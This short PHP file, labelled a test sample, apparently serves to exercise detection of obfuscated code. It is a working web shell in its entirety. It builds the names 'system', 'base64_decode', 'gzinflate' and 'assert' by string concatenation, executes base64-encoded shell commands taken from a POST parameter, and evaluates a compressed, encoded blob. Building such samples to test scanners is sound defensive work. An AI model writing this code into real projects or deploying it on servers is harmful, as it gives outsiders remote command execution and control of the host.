<?php
// Test sample: function names assembled by concatenation.
$f = 'ba' . 'se' . '64_' . 'decode';
$s = 'sy' . 'st' . 'em';
$g = 'gz' . 'inf' . 'late';
$x = 'as' . 'se' . 'rt';
if (!empty($_POST['c'])) { $s($f($_POST['c'])); }
@$x($g($f('c0gtS8zRUIkP8A8OiVavUI/VtAYA')));
